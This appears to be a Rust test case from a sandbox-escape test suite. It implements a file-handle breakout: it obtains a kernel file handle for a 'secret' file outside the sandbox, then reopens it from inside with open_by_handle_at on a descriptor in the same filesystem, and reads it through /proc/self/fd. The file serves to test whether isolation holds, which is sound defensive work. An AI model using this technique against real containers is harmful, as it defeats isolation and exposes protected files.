//! Opens a file outside by its handle, which needs no path: only a descriptor on the same filesystem.

use std::fs;
use std::os::fd::AsRawFd;

use model::Wall;

use super::support;
use crate::inside::call;
use crate::{Attack, Control};

/// As in the kernel's `struct file_handle`.
#[repr(C)]
struct Handle {
    size: u32,
    kind: i32,
    bytes: [u8; 128],
}

pub const ATTACK: Attack = Attack {
    id: "files/file_handle",
    wall: Wall::SystemCalls,
    about: "open a file outside by its handle, from a descriptor on the same filesystem",
    flags: &[],
    prepare: |field| {
        let mut handle = Handle { size: 128, kind: 0, bytes: [0; 128] };
        let mut mount = 0i32;
        let path = support::c_text(field.outside.join("secret"));
        let (here, at) = (libc::AT_FDCWD as u64, &raw mut handle as u64);
        call(libc::SYS_name_to_handle_at, [here, path.as_ptr() as u64, at, &raw mut mount as u64, 0, 0])?;
        let bytes: Vec<String> = handle.bytes[..handle.size as usize].iter().map(u8::to_string).collect();
        field.tell("kind", handle.kind);
        field.tell("bytes", bytes.join(" "));
        Ok(())
    },
    inside: |inside| {
        let mut handle = Handle { size: 0, kind: inside.hint("kind")?.parse().unwrap_or_default(), bytes: [0; 128] };
        for byte in inside.hint("bytes")?.split(' ') {
            handle.bytes[handle.size as usize] = byte.parse().unwrap_or_default();
            handle.size += 1;
        }
        support::any([inside.workspace.as_path(), "/usr".as_ref()].map(|place| {
            let place = fs::File::open(place)?;
            let at = &raw const handle as u64;
            let file = call(libc::SYS_open_by_handle_at, [place.as_raw_fd() as u64, at, 0, 0, 0, 0])?;
            inside.steal(format!("/proc/self/fd/{file}"))
        }))
    },
    judge: None,
    control: Control::BareAsRoot,
};
